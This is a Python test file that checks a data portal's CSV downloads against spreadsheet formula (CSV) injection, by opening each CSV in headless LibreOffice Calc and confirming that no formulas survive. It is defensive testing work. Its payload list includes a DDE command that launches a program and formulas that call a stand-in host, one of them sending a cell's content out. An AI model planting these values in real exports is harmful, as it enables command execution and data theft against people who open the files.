"""Downloads are safe to open: a formula typed into any text of the data never runs in a spreadsheet.

A CSV cell that starts with =, +, -, @, a tab or a line break is a formula to Excel and LibreOffice (OWASP,
"CSV injection"). The CSV downloads write such a text after a «'», which spreadsheets read as text; XLSX and
JSON keep the text as it is (XLSX cells are typed strings there, JSON is not run). The proof is a real
spreadsheet program: LibreOffice Calc, from Debian's package (`make test` installs it), opens every CSV the
built site serves and saves it as XLSX, and no cell of what it read is a formula.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import frictionless

from generator.model.figures import TEXT_MARK, read_csv_rows
from generator.render.open_data import xlsx_sheets
from helpers import make_project, run_portal
from text_fields import rewrite_texts

SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"
PAYLOADS = ('=HYPERLINK("http://e.example","x")', "+SUM(1;2)", "-2+3", "@SUM(1+1)", "=1+1",
            "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://e.example/?\";A1);\"//a\")")


def _formulas_in(xlsx: Path) -> list[str]:
    """The formulas of every sheet of an XLSX file LibreOffice wrote (its <f> elements)."""
    with zipfile.ZipFile(xlsx) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f[^>]*>([^<]*)</f>", z.read(name).decode("utf-8"))]


def _open_in_calc(csvs: list[Path], out: Path) -> dict[str, Path]:
    """Every CSV opened in LibreOffice Calc (headless, as a reader's double-click would: UTF-8, commas,
    formulas evaluated) and saved as XLSX."""
    assert Path(SOFFICE).exists(), "LibreOffice Calc is needed: `make libreoffice` (apt-get install " \
                                   "libreoffice-calc-nogui)"
    out.mkdir(parents=True, exist_ok=True)
    profile = out / "profile"
    done = subprocess.run([SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                           "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1", "--convert-to", "xlsx",
                           "--outdir", str(out), *map(str, csvs)], capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stdout + done.stderr
    converted = {p.stem: out / f"{p.stem}.xlsx" for p in csvs}
    missing = [name for name, path in converted.items() if not path.exists()]
    assert not missing, (missing, done.stdout + done.stderr)
    return converted


def _formula_in_every_text(where: str, text: str) -> str:
    payload = PAYLOADS[sum(map(ord, where)) % len(PAYLOADS)]
    return f"{payload}، {text}"  # a comma: «=1+1 خانواده» would read as a count of one


def test_no_csv_of_the_site_has_a_formula_with_a_formula_typed_in_every_text(tmp_path: Path) -> None:
    root = make_project(tmp_path / "p", data="example")
    assert rewrite_texts(root / "data", _formula_in_every_text) > 300
    code, out, err = run_portal(root, "build")
    assert code == 0, out + err
    site = root / "site"
    csvs = sorted((site / "downloads").glob("*.csv"))
    assert len(csvs) > 50
    # the texts reached the downloads, each starting with its formula
    decisions = read_csv_rows((site / "downloads/decisions.csv").read_text(encoding="utf-8"))
    texts = [row[2] for row in decisions[1:]]
    assert texts and all(t.startswith(PAYLOADS) for t in texts), texts[:3]
    raw = (site / "downloads/decisions.csv").read_text(encoding="utf-8")
    assert f"{TEXT_MARK}{texts[0]}" in raw.replace('""', '"')
    converted = _open_in_calc(csvs, tmp_path / "calc")
    found = {name: f for name, path in converted.items() if (f := _formulas_in(path))}
    assert found == {}
    # what Calc shows is the text typed, after the mark
    shown = [cell for row in xlsx_sheets(converted["decisions"].read_bytes())[0][1:] for cell in row[2:3]]
    assert shown and all(c.startswith(TEXT_MARK) and c[1:].startswith(PAYLOADS) for c in shown), shown[:3]
    # XLSX and JSON keep the text as it is
    sheet = xlsx_sheets((site / "downloads/decisions.xlsx").read_bytes())[0]
    assert [row[2] for row in sheet[1:]] == texts
    doc = json.loads((site / "downloads/decisions.json").read_text(encoding="utf-8"))
    assert [r["decision"] for r in doc["rows"]] == texts
    # the data package still describes every CSV as it is written (its headers included)
    report = frictionless.validate(str(site / "downloads/datapackage.json"))
    assert report.valid, report.flatten(["resourcePath", "rowNumber", "fieldName", "type", "note"])[:10]


def test_the_same_csv_without_the_mark_runs_its_formula_in_calc(tmp_path: Path) -> None:
    """The control: Calc does run a formula in a CSV cell, so the test above could fail."""
    bare = tmp_path / "bare.csv"
    bare.write_text('\ufeffتصمیم,هدف\r\n"=HYPERLINK(""http://e.example"",""x"")",1\r\n=1+1,2\r\n', encoding="utf-8")
    marked = tmp_path / "marked.csv"
    marked.write_text('\ufeffتصمیم,هدف\r\n"\'=HYPERLINK(""http://e.example"",""x"")",1\r\n\'=1+1,2\r\n',
                      encoding="utf-8")
    converted = _open_in_calc([bare, marked], tmp_path / "calc")
    assert len(_formulas_in(converted["bare"])) == 2
    assert _formulas_in(converted["marked"]) == []


def test_texts_of_several_lines_never_break_a_download(tmp_path: Path) -> None:
    """A note or a summary may hold line breaks (a name, title or role may not: validation refuses it). Typed
    into every text that may, they build, pass the audit (each XLSX cell equals its CSV cell) and reach the
    downloads whole: the CSVs' `#` lines stay two single lines."""
    root = make_project(tmp_path / "p", data="example")
    assert rewrite_texts(root / "data", lambda where, text: f"{text}\nسطر دوم: {where}", one_line_too=False) > 60
    code, out, err = run_portal(root, "build")
    assert code == 0, out + err
    site = root / "site"
    decisions = read_csv_rows((site / "downloads/decisions.csv").read_text(encoding="utf-8"))
    assert all("\n" in row[2] for row in decisions[1:])  # the decision's text, with its line break
    for path in (site / "downloads").glob("*.csv"):
        tail = path.read_bytes().decode("utf-8").split("\r\n")[-3:]
        assert tail[0].startswith("# مجوز: ") and tail[1].startswith("# استناد: ") and tail[2] == "", path.name
